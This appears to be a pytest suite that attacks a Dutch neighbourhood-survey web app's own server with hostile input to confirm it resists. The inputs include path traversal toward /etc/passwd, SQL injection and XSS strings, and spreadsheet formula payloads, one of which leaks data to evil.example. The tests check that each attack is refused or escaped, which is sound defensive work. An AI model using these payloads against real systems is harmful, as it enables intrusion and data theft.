"""Hostile input against the real server over real HTTP: oversize and slow requests, broken encodings,
floods of fields and headers, odd methods, path traversal, injection payloads that must be stored as
typed and escaped wherever they are shown or exported, token guessing, and CSRF on every staff form.

Raw sockets are used where a well-behaved client library would refuse to send what is tested, and
a second loopback address (127.0.0.2) stands in for a second client."""
import csv
import http.client
import io
import json
import re
import socket
import sqlite3
import time

import pytest
import requests

SURVEY = "speeltuin-geraniumstraat"
PASSWORD = "e2e-wachtwoord-lang-genoeg"
OTHER_CLIENT = "127.0.0.2"

# What people type to break things: markup, SQL, and spreadsheet formulas.
PAYLOADS = [
    '<script>alert("xss")</script>',
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE response; --",
    'Robert"); DELETE FROM member; --',
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "+SUM(1,2)",
    "-2+3*cmd|' /C calc'!A0",
    "@SUM(1)",
]


def serve(app, members=40, **settings):
    """A demo panel invited to the Geraniumstraat survey, and the server started with `settings`
    (as DRAAGVLAK_* variables); returns the personal links by member id."""
    app.run("demo", "--count", str(members))
    links_csv = app.data / "links.csv"
    app.run("invite", SURVEY, "--links-csv", str(links_csv))
    for key, value in settings.items():
        app.env[f"DRAAGVLAK_{key.upper()}"] = str(value)
    app.start()
    return app.links(links_csv)


def raw(app, data: bytes, source=None, timeout=10) -> bytes:
    """Sends bytes as they are and returns what the server answers before it closes (or times out)."""
    with socket.create_connection(("127.0.0.1", app.port), timeout=timeout,
                                  source_address=(source, 0) if source else None) as s:
        reply = b""
        try:
            s.sendall(data)
            s.shutdown(socket.SHUT_WR)
        except OSError:
            # The server may stop reading and close while we still send (a refusal such as 431, or
            # no answer at all); what it wrote before closing is still ours to read.
            pass
        try:
            while chunk := s.recv(65536):
                reply += chunk
        except OSError:  # timeout, reset, or not connected any more
            pass
        return reply


def status_of(reply: bytes) -> int:
    match = re.match(rb"HTTP/1\.[01] (\d{3})", reply)
    return int(match.group(1)) if match else 0


def get_from(app, source, path):
    """A GET from another loopback address, so the server sees another client."""
    connection = http.client.HTTPConnection("127.0.0.1", app.port, timeout=10, source_address=(source, 0))
    try:
        connection.request("GET", path)
        reply = connection.getresponse()
        return reply.status, dict(reply.getheaders()), reply.read().decode()
    finally:
        connection.close()


def responded(app) -> int:
    with sqlite3.connect(app.data / "draagvlak.sqlite") as db:
        return db.execute("SELECT count(*) FROM response").fetchone()[0]


def test_a_body_over_the_limit_is_refused_with_413_before_it_is_sent(app):
    link = next(iter(serve(app).values()))
    path = link.removeprefix(app.base)
    announced = raw(app, f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                         f"Content-Length: 10000000\r\n\r\n".encode())
    assert status_of(announced) == 413 and b"at most 65536 bytes" in announced
    chunk = b"a" * 30_000
    chunked = raw(app, f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                       f"Transfer-Encoding: chunked\r\n\r\n".encode()
                  + b"".join(b"%x\r\n%s\r\n" % (len(chunk), chunk) for _ in range(3)) + b"0\r\n\r\n")
    assert status_of(chunked) == 413
    assert responded(app) == 0
    assert requests.get(link, timeout=10).status_code == 200


def test_slow_clients_are_cut_off_while_everyone_else_is_served(app):
    links = serve(app, connection_timeout_seconds=3, max_connections_per_client=8)
    slow = []
    for n in range(8):
        s = socket.create_connection(("127.0.0.1", app.port), timeout=30, source_address=(OTHER_CLIENT, 0))
        # Half the headers, or a body that never comes: both must be cut off.
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: " if n % 2 else
                  b"POST /c HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\ncode=")
        slow.append(s)
    started = time.monotonic()
    # The slow client has used up the connections one address may hold: a ninth is closed at once ...
    assert status_of(raw(app, b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n", source=OTHER_CLIENT, timeout=5)) == 0
    # ... while everyone else is served as usual.
    for link in list(links.values())[:5]:
        assert requests.get(link, timeout=5).status_code == 200
    for s in slow:
        # Whatever the server says, it then closes (or resets): reading ends before the socket's own
        # 30-second timeout, which would raise.
        try:
            while s.recv(65536):
                pass
        except ConnectionResetError:
            pass
        s.close()
    assert time.monotonic() - started < 25, "slow connections were kept open far beyond the timeout"
    # libmicrohttpd counts a closed connection until its event loop has cleaned it up: soon, not at once.
    deadline = time.monotonic() + 10
    while True:
        try:
            if get_from(app, OTHER_CLIENT, "/healthz")[0] == 200:
                break
        except (ConnectionError, http.client.HTTPException):
            pass
        assert time.monotonic() < deadline, "the slow client could not connect again once its connections were gone"
        time.sleep(0.2)


@pytest.mark.parametrize("target, body, where", [
    ("/s/%zz", None, b"malformed percent-escape in the path at byte 4"),
    ("/s/abc%ff", None, b"invalid UTF-8 in the path"),
    ("/c?lang=%ff", None, b"invalid UTF-8 in field 'lang'"),
    ("{link}", b"steun=%zz", b"malformed percent-escape in field 'steun' at byte 1"),
    ("{link}", b"steun=4&opmerkingen=%ff%fe", b"invalid UTF-8 in field 'opmerkingen'"),
    ("{link}", b"steun=4&opmerkingen=\xff\xfe", b"invalid UTF-8 in field 'opmerkingen'"),
    ("{link}?lang=%c3%28", None, b"invalid UTF-8"),
])
def test_broken_percent_encoding_and_invalid_utf8_are_400_saying_where(app, target, body, where):
    link = next(iter(serve(app).values())).removeprefix(app.base)
    target = target.format(link=link)
    if body is None:
        reply = raw(app, f"GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
    else:
        reply = raw(app, f"POST {target} HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                         f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body)
    assert status_of(reply) == 400, reply[:300]
    assert where in reply
    assert responded(app) == 0


def test_thousands_of_fields_are_refused_and_repeated_fields_are_not_merged(app):
    links = list(serve(app).values())
    flood = "&".join(f"f{n}=1" for n in range(5000))
    reply = requests.post(links[0], data=flood, headers={"Content-Type": "application/x-www-form-urlencoded"},
                          allow_redirects=False, timeout=10)
    assert reply.status_code == 413 and "more than 500 fields" in reply.text
    # A question with one answer sent twice: refused with the question named, not one picked silently.
    twice = requests.post(links[1], data=[("steun", "1"), ("steun", "5")], allow_redirects=False, timeout=10)
    assert twice.status_code == 422 and "q-steun" in twice.text
    assert responded(app) == 0
    # A repeated control field counts once, by its first value.
    again = requests.post(links[2], data=[("steun", "4"), ("_page", "0"), ("_page", "7"), ("steun", "4")],
                          allow_redirects=False, timeout=10)
    assert again.status_code == 303
    assert responded(app) == 1


def test_huge_and_countless_headers_are_refused_and_the_server_carries_on(app):
    link = next(iter(serve(app).values()))
    path = link.removeprefix(app.base).encode()
    huge = raw(app, b"GET " + path + b" HTTP/1.1\r\nHost: x\r\nX-Huge: " + b"h" * 100_000 + b"\r\n\r\n")
    assert status_of(huge) in (0, 413, 414, 431)
    many = raw(app, b"GET " + path + b" HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X-H%d: v\r\n" % n for n in range(5000)) + b"\r\n")
    assert status_of(many) in (0, 413, 414, 431)
    long_target = raw(app, b"GET " + path + b"/" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n")
    assert status_of(long_target) in (0, 413, 414, 431)
    assert requests.get(link, timeout=10).status_code == 200
    # Refused before routing, the requests leave no trace of the link in the log (libmicrohttpd's own
    # messages included).
    assert path.rsplit(b"/", 1)[1].decode() not in app.server_log.read_text()


def test_unknown_methods_get_405_and_head_gets_the_headers_only(app):
    link = next(iter(serve(app).values()))
    path = link.removeprefix(app.base)
    for method, target in [("BREW", "/"), ("DELETE", path), ("PUT", "/admin/budget"), ("PATCH", "/c"), ("TRACE", "/healthz")]:
        reply = raw(app, f"{method} {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
        assert status_of(reply) == 405, (method, target, reply[:200])
        assert re.search(rb"\r\nAllow: [A-Z, ]*GET", reply), reply[:300]
    head = requests.head(link, timeout=10)
    assert head.status_code == 200 and head.content == b"" and head.headers["Content-Type"].startswith("text/html")
    assert requests.head(f"{app.base}/static/draagvlak.css", timeout=10).status_code == 200
    assert requests.head(f"{app.base}/s/onbekend", timeout=10).status_code == 404


@pytest.mark.parametrize("target", [
    "/static/../Package.swift", "/static/../../etc/passwd", "/static/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%2fsurveys/speeltuin-geraniumstraat.yaml", "/static/%2e%2e%2fdata%2fdraagvlak.sqlite",
    "/static//etc/passwd", "/static/draagvlak.css/../../README.md", "/static/.%2e/.%2e/Package.swift",
    "/static/..\\..\\Package.swift", "/static/%00draagvlak.css", "/static/draagvlak.css%00.txt",
])
def test_static_files_never_reach_outside_their_folder(app, target):
    serve(app, members=10)
    reply = raw(app, f"GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
    assert status_of(reply) in (400, 404), reply[:200]
    assert b"root:" not in reply and b"swift-tools-version" not in reply and b"SQLite format" not in reply
    assert b"kind: buurttoetsing" not in reply


@pytest.mark.parametrize("target, statuses", [
    ("/wijken/oost'%20OR%20'1'='1", (404,)),
    ("/wijken/oost%3B%20DROP%20TABLE%20initiative", (404,)),
    ("/wijken/oost?jaar=2026%20OR%201%3D1", (400,)),
    ("/wijken/oost/budget.json?jaar=2026'--", (400,)),
    ("/uitkomsten/x'%20UNION%20SELECT%20*%20FROM%20member--", (404,)),
    ("/s/'%20OR%201%3D1--", (404,)),
    ("/c/'%20OR%20''%3D'", (404,)),
    ("/open-data/budget.csv?jaar=2026%3BDELETE%20FROM%20member", (400,)),
])
def test_sql_in_paths_and_queries_finds_nothing_and_changes_nothing(app, target, statuses):
    serve(app, members=10)
    reply = raw(app, f"GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
    assert status_of(reply) in statuses, reply[:300]
    assert b"<script" not in reply.split(b"\r\n\r\n", 1)[1].replace(b'<script src="/static/', b"")
    with sqlite3.connect(app.data / "draagvlak.sqlite") as db:
        tables = {row[0] for row in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert {"initiative", "member", "response", "answer"} <= tables
        assert db.execute("SELECT count(*) FROM member").fetchone()[0] == 10


def test_injection_payloads_are_stored_as_typed_and_escaped_on_every_page_and_in_every_export(app, tmp_path):
    links = serve(app, members=60)
    members = sorted(links)
    for member, payload in zip(members, PAYLOADS):
        reply = requests.post(links[member], data={"steun": "4", "gebruik": "wekelijks", "opmerkingen": payload},
                              allow_redirects=False, timeout=10)
        assert reply.status_code == 303, reply.text
    submitted = requests.post(f"{app.base}/initiatieven/nieuw", allow_redirects=False, timeout=10, data={
        "titel": PAYLOADS[0], "omschrijving": PAYLOADS[1] + " " + PAYLOADS[2], "wijk": "Oost", "soort": "regulier",
        "bedrag": "1500", "wederkerigheid": PAYLOADS[4], "naam": PAYLOADS[3], "email": "an@example.org", "thema": PAYLOADS[7]})
    assert submitted.status_code == 303, submitted.text
    status_path = submitted.headers["Location"].split("?")[0]

    # Stored exactly as typed: the SQL did nothing, and nothing was escaped on the way in.
    with sqlite3.connect(app.data / "draagvlak.sqlite") as db:
        tables = {row[0] for row in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert {"response", "member"} <= tables
        stored = {row[0] for row in db.execute("SELECT value FROM answer WHERE question_id = 'opmerkingen'")}
        assert stored == set(PAYLOADS)
        state = json.loads(db.execute("SELECT state FROM initiative").fetchone()[0])
        assert state["title"] == PAYLOADS[0]
        assert db.execute("SELECT name FROM initiative_contact").fetchone()[0] == PAYLOADS[3]

    admin = app.staff("admin", "beheer")
    app.add_user("buco", "buurtcoordinator", PASSWORD, "--wijk", "Oost")
    buco = app.login("buco", PASSWORD)
    initiative_id = re.search(r"INI-\d{4}-\d{3}", requests.get(app.base + status_path, timeout=10).text).group(0)

    pages = {
        "answer page": requests.get(links[members[0]], timeout=10),
        "answer page (attribute)": requests.get(links[members[1]], timeout=10),
        "status page": requests.get(app.base + status_path, timeout=10),
        "wijk page": requests.get(f"{app.base}/wijken/oost", timeout=10),
        "wijken": requests.get(f"{app.base}/wijken", timeout=10),
        "staff list": buco.get(f"{app.base}/admin/initiatieven", timeout=10),
        "staff detail": buco.get(f"{app.base}/admin/initiatieven/{initiative_id}", timeout=10),
        "decision queue": buco.get(f"{app.base}/admin/beslissen", timeout=10),
        "report": admin.get(f"{app.base}/admin/surveys/{SURVEY}/report", timeout=60),
        "privacy": requests.get(links[members[0]] + "/privacy", timeout=10),
    }
    for name, page in pages.items():
        assert page.status_code == 200, (name, page.status_code)
        assert page.headers["Content-Type"].startswith("text/html")
        html = page.text
        assert "<script>alert" not in html and "<img src=x" not in html and "onerror=alert(1)>" not in html, name
    assert "&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt;" in pages["answer page"].text
    assert "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in pages["answer page (attribute)"].text
    for name in ("status page", "wijk page", "staff list", "staff detail"):
        assert "&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt;" in pages[name].text, name
    assert "Robert&quot;); DELETE FROM member; --" in pages["staff detail"].text

    # The CSV export: every payload as typed, formulas made inert with a leading quote.
    export = admin.get(f"{app.base}/admin/surveys/{SURVEY}/export/csv", timeout=60)
    assert export.status_code == 200 and export.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(export.text)))
    typed = {row["opmerkingen"] for row in rows if row["opmerkingen"]}
    expected = {("'" + p) if p[0] in "=+-@" else p for p in PAYLOADS}
    assert typed == expected
    for line in export.text.splitlines():
        for cell in next(csv.reader([line])):
            assert not cell[:1] in ("=", "+", "@") and not re.match(r"-[^\d]", cell), cell

    # The SPSS file carries the text as typed (SPSS runs no formulas); the JSON exports too.
    sav = admin.get(f"{app.base}/admin/surveys/{SURVEY}/export/sav", timeout=60)
    assert sav.status_code == 200 and PAYLOADS[0].encode() in sav.content and PAYLOADS[4].encode() in sav.content
    mine = requests.get(links[members[0]] + "/mijn-gegevens", timeout=10)
    assert mine.headers["Content-Type"] == "application/json"
    assert mine.json()["invitations"][0]["answers"]["opmerkingen"] == [PAYLOADS[0]]
    api = buco.get(f"{app.base}/api/v1/initiatives/{initiative_id}", timeout=10)
    assert api.status_code == 200 and api.headers["Content-Type"] == "application/json"
    assert api.json()["title"] == PAYLOADS[0]
    open_data = requests.get(f"{app.base}/open-data/budget.json", timeout=10)
    assert open_data.headers["Content-Type"] == "application/json" and "nosniff" in open_data.headers["X-Content-Type-Options"]

    # Letters: an address typed with a formula and markup is inert in the mail merge and the letters.
    addresses = tmp_path / "adressen.csv"
    addresses.write_text("straat,huisnummer,postcode,woonplaats,buurt\n"
                         '"=HYPERLINK(""http://evil.example"")",1,1215 AB,Hilversum,Geraniumbuurt\n'
                         "<script>alert(1)</script>straat,2,1215 AB,Hilversum,Geraniumbuurt\n")
    out = tmp_path / "brieven"
    app.run("letters", SURVEY, "--addresses", str(addresses), "--out", str(out))
    merge = next(out.rglob("adressen.csv")).read_text()
    assert "'=HYPERLINK" in merge and not re.search(r"(^|,)=HYPERLINK", merge, re.MULTILINE)
    letters = next(out.rglob("brieven.html")).read_text()
    assert "<script>alert(1)</script>" not in letters and "&lt;script&gt;alert(1)&lt;/script&gt;straat" in letters

    # The command line's report and export are escaped alike.
    report = app.run("report", SURVEY, "--format", "html").stdout
    assert "<script>alert" not in report
    csv_file = tmp_path / "export.csv"
    app.run("report", SURVEY, "--format", "csv", "--output", str(csv_file))
    assert "'=HYPERLINK" in csv_file.read_text()


def test_token_guessing_is_limited_per_address_without_slowing_others_and_stays_out_of_the_log(app):
    links = serve(app, token_guess_burst=5, token_guess_per_minute=1)
    own = list(links.values())[0].removeprefix(app.base)
    guesses = [f"/s/{'A' * 40}{n}" for n in range(4)] + ["/c/K7QM-4XPD-9TRW-H3CN"]
    for path in guesses:
        status, _, _ = get_from(app, OTHER_CLIENT, path)
        assert status == 404, path
    status, headers, body = get_from(app, OTHER_CLIENT, f"/i/{'B' * 40}")
    assert status == 429
    assert 1 <= int(headers["Retry-After"]) <= 60
    assert 'lang="nl"' in body and "Even geduld" in body
    # Blocked means blocked: even a real link gets 429, so a right guess looks like a wrong one.
    assert get_from(app, OTHER_CLIENT, own)[0] == 429
    # Everyone else is served as before, and a member opening their own link often is never limited.
    for _ in range(20):
        assert requests.get(app.base + own, timeout=10).status_code == 200
    assert requests.get(f"{app.base}/s/{'C' * 40}", timeout=10).status_code == 404

    log = app.server_log.read_text()
    assert "AAAAAAAAAA" not in log and "BBBBBBBBBB" not in log and "K7QM" not in log
    assert own.rsplit("/", 1)[1] not in log
    assert re.search(r"GET /s/… 404", log) and re.search(r"GET /i/… 429", log)


def test_every_state_changing_staff_form_refuses_a_missing_or_wrong_csrf_token(app):
    serve(app, members=20)
    submitted = requests.post(f"{app.base}/initiatieven/nieuw", allow_redirects=False, timeout=10, data={
        "titel": "Bankje", "omschrijving": "Een bankje bij de speeltuin.", "wijk": "Oost", "soort": "regulier",
        "bedrag": "500", "wederkerigheid": "Wij schilderen het.", "naam": "An", "email": "an@example.org"})
    initiative_id = re.search(r"INI-\d{4}-\d{3}", requests.get(app.base + submitted.headers["Location"], timeout=10).text).group(0)
    app.add_user("beheer", "admin", PASSWORD)
    app.add_user("buco", "buurtcoordinator", PASSWORD, "--wijk", "Oost")
    app.add_user("wethouder", "wethouder_buurten", PASSWORD)
    sessions = {name: app.login(name, PASSWORD) for name in ("beheer", "buco", "wethouder")}
    with sqlite3.connect(app.data / "draagvlak.sqlite") as db:
        before = db.execute("SELECT count(*) FROM audit_log").fetchone()[0]

    forms = [
        ("buco", f"/admin/initiatieven/{initiative_id}", {"action": "start_review"}),
        ("buco", f"/api/v1/initiatives/{initiative_id}/actions", None),
        ("wethouder", "/admin/budget", {"decision": "transfer", "amount": "100", "from": "Oost", "to": "Zuid", "line": "subsidie"}),
        ("beheer", f"/admin/surveys/{SURVEY}/preview", {"_action": "submit", "steun": "4"}),
        ("beheer", "/api/v1/surveys/reload", None),
        ("beheer", "/admin/logout", {}),
    ]
    for who, path, fields in forms:
        session = sessions[who]
        for token in (None, "nep-token"):
            if fields is None:
                headers = {"X-CSRF-Token": token} if token else {}
                reply = session.post(app.base + path, json={"action": "start_review"}, headers=headers, allow_redirects=False, timeout=10)
            else:
                data = dict(fields, **({"_csrf": token} if token else {}))
                reply = session.post(app.base + path, data=data, allow_redirects=False, timeout=10)
            assert reply.status_code == 403, (who, path, token, reply.status_code)
    with sqlite3.connect(app.data / "draagvlak.sqlite") as db:
        assert db.execute("SELECT count(*) FROM audit_log").fetchone()[0] == before, "a refused form changed something"
        assert db.execute("SELECT status FROM initiative").fetchone()[0] == "ingediend"
    assert sessions["beheer"].get(f"{app.base}/admin", timeout=10).url.endswith("/admin"), "logout happened without a token"

    cookie = next(c for c in sessions["beheer"].cookies if c.name == "draagvlak_session")
    assert cookie.has_nonstandard_attr("HttpOnly") and cookie.get_nonstandard_attr("SameSite") == "Strict"
